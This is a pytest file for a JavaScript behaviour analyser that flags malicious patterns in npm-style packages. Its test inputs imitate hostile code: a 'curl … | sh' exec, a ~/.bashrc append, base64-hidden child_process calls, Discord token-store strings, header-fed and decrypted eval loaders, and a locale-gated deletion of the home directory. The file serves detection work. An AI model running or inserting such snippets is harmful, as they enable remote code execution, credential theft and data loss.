"""The JavaScript reader: facts from a tree-sitter tree, on sources shaped like real packages."""

from __future__ import annotations

import base64

import pytest

from finalexam.analyze.behavior.facts import IMPORT, INSTALL, RUNTIME, Facts
from finalexam.analyze.behavior.javascript.bounded import (
    BUNDLE_BYTES,
    MAX_PARSED_BYTES,
    bounded_javascript_facts,
)
from finalexam.analyze.behavior.javascript.parse import _parse, parse
from finalexam.analyze.behavior.javascript.visitor import javascript_facts
from finalexam.model import IssueKind


def _calls(facts: Facts) -> dict[str, tuple[int, str]]:
    found: dict[str, tuple[int, str]] = {}
    for fact in facts.facts:
        if fact.kind == "call":
            found.setdefault(fact.value, (fact.line, fact.context))
    return found


def _strings(facts: Facts) -> set[str]:
    return {f.value for f in facts.facts if f.kind == "string"}


def test_aliases_destructuring_and_interop_wrappers_resolve_to_the_module() -> None:
    source = "\n".join(
        [
            "const cp = require('child_process');",
            "const { execSync: run, spawn } = require('node:child_process');",
            "var import_os = __toESM(require('os'));",
            "import fsDefault from 'fs';",
            "import * as net from 'net';",
            "cp.exec('ls');",
            "run('id');",
            "spawn('sh', ['-c', 'id']);",
            "import_os.default.homedir();",
            "fsDefault.readFileSync('x');",
            "net.connect(4444, '10.0.0.1');",
            "process.mainModule.require('http');",
            "const m = await import('./dyn.js');",
        ]
    )
    calls = _calls(javascript_facts(source))
    for name in (
        "child_process.exec",
        "child_process.execSync",
        "child_process.spawn",
        "os.homedir",
        "fs.readFileSync",
        "net.connect",
        "import http",
        "import ./dyn.js",
        "import fs",
    ):
        assert name in calls, name
    assert calls["spawn>sh -c id"][0] == 8


def test_string_concatenation_escapes_and_constant_subscripts_are_folded() -> None:
    source = (
        "var m = require('\\x63hild_' + 'process');\n"
        "m['ex' + 'ec']('cu' + 'rl -s http://203.0.113.9/p | sh');\n"
        "require('\\x76\\x6d')['\\x72\\x75\\x6eInThisContext'](code);\n"
    )
    facts = javascript_facts(source)
    calls = _calls(facts)
    assert "child_process.exec" in calls
    assert "spawn>curl -s http://203.0.113.9/p | sh" in calls
    assert "vm.runInThisContext" in calls
    assert "curl -s http://203.0.113.9/p | sh" in _strings(facts)


def test_decoded_literals_are_read_and_code_in_them_is_read_as_code() -> None:
    hidden = base64.b64encode(b"require('child_process').exec('whoami')").decode()
    codes = ", ".join(str(ord(c)) for c in "api.ipify.org")
    source = (
        f"eval(Buffer.from('{hidden}', 'base64').toString());\n"
        f"const host = String.fromCharCode({codes});\n"
        f"const u = atob('{base64.b64encode(b'https://paste.example/raw').decode()}');\n"
    )
    facts = javascript_facts(source)
    calls = _calls(facts)
    assert calls["eval<-Buffer.from"][0] == 1
    assert calls["child_process.exec"] == (1, IMPORT)
    assert {"api.ipify.org", "https://paste.example/raw"} <= _strings(facts)


def test_an_obfuscator_string_table_is_decoded() -> None:
    def encode(text: str) -> str:  # javascript-obfuscator's alphabet: lower case first
        standard = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="
        custom = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/="
        return base64.b64encode(text.encode()).decode().translate(str.maketrans(standard, custom))

    words = ["child_process", "Local Storage/leveldb", "discord", "exec", "homedir"]
    table = ", ".join(f"'{encode(w)}'" for w in words)
    source = (
        f"var _0x3f2a = [{table}];\n(function (a, b) {{ a.push(a.shift()); }})(_0x3f2a, 0x1b3);\n"
    )
    assert set(words) <= _strings(javascript_facts(source))


def test_contexts_top_level_iife_called_function_and_runtime_function() -> None:
    source = "\n".join(
        [
            "(function () {",
            "  require('child_process').exec('a');",
            "})();",
            "function deliver(p, text) {",
            "  require('fs').writeFileSync(p, text);",
            "}",
            "function later() {",
            "  require('child_process').exec('b');",
            "}",
            "deliver(require('os').homedir() + '/Desktop/NOTE.txt', 'x');",
        ]
    )
    facts = javascript_facts(source)
    calls = _calls(facts)
    assert calls["spawn>a"] == (2, IMPORT)
    assert calls["spawn>b"] == (8, RUNTIME)
    assert calls["write>~/Desktop/NOTE.txt"] == (10, IMPORT)
    assert facts.context_of(8, IMPORT) == RUNTIME
    installed = _calls(javascript_facts(source, install_file=True))
    assert installed["spawn>b"][1] == INSTALL


def test_template_paths_through_variables_reach_the_write() -> None:
    source = "\n".join(
        [
            "import fs from 'fs';",
            "import { homedir } from 'os';",
            "var desk = `${homedir}/OneDrive/Desktop/`;",
            "var name = 'README-NOW.txt';",
            "fs.writeFile(`${desk}${name}`, 'text', () => {});",
            "const rc = require('path').join(process.env.HOME, '.bashrc');",
            "fs.appendFileSync(rc, 'curl x | sh');",
        ]
    )
    calls = _calls(javascript_facts(source))
    assert "write>~/OneDrive/Desktop/README-NOW.txt" in calls
    assert "write>~/.bashrc" in calls


def test_header_data_flows_into_an_evaluation() -> None:
    source = "\n".join(
        [
            "module.exports = function (req, res, next) {",
            "  JSON.stringify(req.headers).replace(/x([a-f0-9]+)y/g, (all, chunk) => {",
            "    buf += Buffer.from(chunk, 'hex').toString();",
            "  });",
            "  if (done) { require('vm').runInThisContext(buf)(module.exports, require); }",
            "  next();",
            "};",
        ]
    )
    calls = _calls(javascript_facts(source))
    assert calls["eval<-request"] == (5, RUNTIME)
    assert "eval<-Buffer.from" in calls


def test_decryption_flows_into_module_compile() -> None:
    source = "\n".join(
        [
            "var crypto = require('crypto');",
            "var key = require('./package.json').description;",
            "var d = crypto.createDecipher('aes256', key);",
            "var out = d.update(payload, 'hex', 'utf8');",
            "out += d.final('utf8');",
            "var m = new module.constructor();",
            "m.paths = module.paths;",
            "m._compile(out, 'x');",
        ]
    )
    calls = _calls(javascript_facts(source))
    assert calls["eval<-decipher"] == (8, IMPORT)


def test_locale_gate_and_what_it_guards() -> None:
    source = "\n".join(
        [
            "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;",
            "if (!['Europe/Moscow', 'Europe/Minsk'].includes(tz)) return;",
            "console.log('A message for you');",
            "if (process.env.LANG && process.env.LANG.startsWith('ru')) {",
            "  require('fs').rmSync(require('os').homedir(), { recursive: true });",
            "}",
        ]
    )
    calls = _calls(javascript_facts(source))
    assert calls["gate:zone"][0] == 2
    assert calls["gate:language"][0] == 4
    assert calls["gated:message"][0] == 3
    assert calls["gated:delete"][0] == 5
    assert "delete>~" in calls


def test_endless_loop_at_import_only() -> None:
    calls = _calls(javascript_facts("for (let i = 666; i < Infinity; i++) { console.log(i); }"))
    assert "loop:endless" in calls
    assert "loop:endless" not in _calls(javascript_facts("while (true) { if (x()) break; }"))
    assert "loop:endless" not in _calls(javascript_facts("function f() { for (;;) {} }"))


def test_typescript_and_jsx_sources_are_read() -> None:
    ts = "import { execSync } from 'child_process';\nconst x: string = execSync('id') as string;"
    jsx = "const cp = require('child_process');\nconst App = () => <div>{cp.exec('id')}</div>;"
    assert "child_process.execSync" in _calls(javascript_facts(ts))
    assert "child_process.exec" in _calls(javascript_facts(jsx))


def test_binary_data_in_a_string_literal_is_read_past() -> None:
    """pdf.js's sandbox bundle holds QuickJS's wasm in a string literal, NUL bytes included:
    the code after it is read, at its own line, and parsing stays quick. Binary data is no
    source text: what its bytes happen to spell is not read as code."""
    wasm = "\0asm\x01\0\0\0" + "\0\x02`~|" * 20_000 + 'require("child_process").spawn(x)'
    source = f"const F = ba('{wasm}');\nrequire('child_process').exec('id');\n"
    facts = javascript_facts(source)
    assert facts.parsed
    assert _calls(facts)["child_process.exec"] == (2, IMPORT)
    assert "child_process.spawn" not in _calls(facts)
    carried = "const F = '\\nrequire(\"child_process\").spawn(x)';\n"
    assert "child_process.spawn" in _calls(javascript_facts(carried))
    assert parse(source.encode())[0].root_node.has_error is False


def test_a_slow_or_huge_source_is_bounded_and_falls_back_to_text() -> None:
    source = "var a = require('fs');\n" + "a.readFileSync('x' + 'y');\n" * 30_000
    facts, why = bounded_javascript_facts(source, 0.05)
    assert not facts.parsed
    assert why is not None and why[0] is IssueKind.TIME_BUDGET
    facts, why = bounded_javascript_facts("require('fs')", 10)
    assert facts.parsed and why is None
    huge = "x = 1;\n" * (MAX_PARSED_BYTES // 7 + 1)  # its tree would cost too much memory
    facts, why = bounded_javascript_facts(huge, 10)
    assert not facts.parsed and why is None


def test_a_bundle_that_outruns_the_parse_share_is_a_note_a_small_source_a_gap() -> None:
    """effect 4.1.5's 2 MB httpApiSwagger.js outruns the share on honest code: a source of
    bundle size is read as text, as one past MAX_PARSED_BYTES is, and says so in a note; a
    smaller one that outruns it stays a gap."""
    line = "function f(a, b) { return g(a, b + 1, 'x'); }\n"
    bundle = line * (BUNDLE_BYTES // len(line) + 1)
    facts, why = bounded_javascript_facts(bundle, 0.05)
    assert not facts.parsed
    assert why is not None and why[0] is IssueKind.NOTE
    assert why[1].startswith("of bundle size not parsed over its")
    facts, why = bounded_javascript_facts(bundle[: BUNDLE_BYTES - 1], 0.05)
    assert not facts.parsed
    assert why is not None and why[0] is IssueKind.TIME_BUDGET


# 114 bytes cut down from the doc comments of effect 4.1.5's src/Chunk.ts, read as code: the
# JavaScript grammar's error recovery on them goes exponential (minutes of CPU) without
# reading another byte, so a budget checked only between chunks of input never stopped it
EXPLODING = (
    't\n@prse(=*`bp`*uAy \ni(?l:(\n*/ */,te=>u =>@y t>(t\ne( ))[3,5]``a.v*=  [""] *@e>["i / pi'
    '\ng>((b)ae() )*("l",).s(  (x):'
)


def test_a_parse_whose_error_recovery_explodes_is_stopped_by_the_budget() -> None:
    facts, why = bounded_javascript_facts(EXPLODING, 0.5)
    assert not facts.parsed
    assert why is not None and why[0] is IssueKind.TIME_BUDGET


def test_the_source_after_a_stopped_parse_gets_its_own_tree() -> None:
    """A parser stopped mid-parse resumes that parse on its next call: the file examined after
    an overrun was read with the stopped file's tree."""
    slow = "var a = require('fs');\n" + "a.readFileSync('x' + 'y');\n" * 30_000
    facts, why = bounded_javascript_facts(slow, 0.05)
    assert not facts.parsed and why is not None
    source = "require('child_process').exec('id');\n"
    facts, why = bounded_javascript_facts(source, 10)
    assert why is None and facts.parsed
    assert _calls(facts)["child_process.exec"] == (1, IMPORT)
    assert facts == javascript_facts(source)
    with pytest.raises(ValueError):
        _parse(slow.encode(), "typescript", 0.001)  # a retry stopped by its own allowance
    tree, dialect = parse(b"let x: number = 1;\n", "typescript")
    assert dialect == "typescript" and tree.root_node.end_byte == 19


def test_a_retry_with_another_grammar_that_explodes_keeps_the_first_tree() -> None:
    """effect's Chunk.ts: TypeScript variance annotations (``<out A>``) are errors to the
    TypeScript grammar, and the JavaScript grammar, tried next, explodes on its doc comments.
    The TypeScript tree is kept and read."""
    source = (
        "import { execSync } from 'child_process';\nexecSync('id');\n"
        "export interface Chunk<out A> { readonly a: A }\n" + EXPLODING
    )
    tree, dialect = parse(source.encode(), "typescript")
    assert dialect == "typescript" and tree.root_node.has_error
    facts, why = bounded_javascript_facts(source, 10, path="src/Chunk.ts")
    assert why is None and facts.parsed
    assert _calls(facts)["child_process.execSync"] == (2, IMPORT)


def test_settimeout_runs_a_string_it_is_handed_not_what_a_factory_was_given() -> None:
    """MathJax's ``setTimeout(MathJax.Callback(["Clear", this, n]), delay)`` hands over the
    function a factory returns: that a variable named ``n`` holds decoded data elsewhere in
    the file does not make it code. A decoded string handed over is."""
    hidden = base64.b64encode(b"require('child_process').exec('id')").decode()
    benign = _calls(
        javascript_facts(
            f"var n = atob('{hidden}');\n"
            "setTimeout(MathJax.Callback(['Clear', this, n]), n.length);\n"
        )
    )
    assert not any(call.startswith("eval<-") for call in benign)
    for handed in (f"atob('{hidden}')", f"Buffer.from('{hidden}', 'base64').toString()"):
        calls = _calls(javascript_facts(f"setTimeout({handed}, 10);\n"))
        assert any(call.startswith("eval<-") for call in calls), handed


def test_names_are_bound_per_function_so_minified_code_does_not_mix_them() -> None:
    """A bundler names every function's first parameter ``e``: one function decoding into
    ``t`` says nothing about another's ``t``. Data still follows a name into the callbacks
    that share its declaring function (the download-then-eval of a response)."""
    hidden = base64.b64encode(b"require('child_process').exec('id')").decode()
    minified = (
        f"function a(e){{var t=atob('{hidden}');return t.length}}\n"
        "function b(e,t){return eval(t)}\n"
    )
    assert not any(c.startswith("eval<-") for c in _calls(javascript_facts(minified)))
    same = f"function a(e){{var t=atob('{hidden}');return eval(t)}}\n"
    assert "eval<-atob" in _calls(javascript_facts(same))
    download = (
        "const https = require('https');\n"
        "https.get(u, r => { let d = ''; r.on('data', c => { d += c; });"
        " r.on('end', () => { eval(d); }); });\n"
    )
    assert any(c.startswith("eval<-") for c in _calls(javascript_facts(download)))


def test_aliases_are_bound_per_function_too() -> None:
    """``var l = Function`` in one minified function does not make another function's
    parameter ``l`` the Function constructor; a module bound at the top stays bound inside."""
    hidden = base64.b64encode(b"process.exit(1)").decode()
    minified = (
        "function a(){var l=Function;return l}\n"
        f"function b(l,e){{var t=atob('{hidden}');return l(t)}}\n"
    )
    assert not any(c.startswith("eval<-") for c in _calls(javascript_facts(minified)))
    same = f"function a(){{var l=Function;var t=atob('{hidden}');return l(t)}}\n"
    assert "eval<-atob" in _calls(javascript_facts(same))
    top = "const cp = require('child_process');\nfunction f(x) { cp.exec(x); }\n"
    assert "child_process.exec" in _calls(javascript_facts(top))
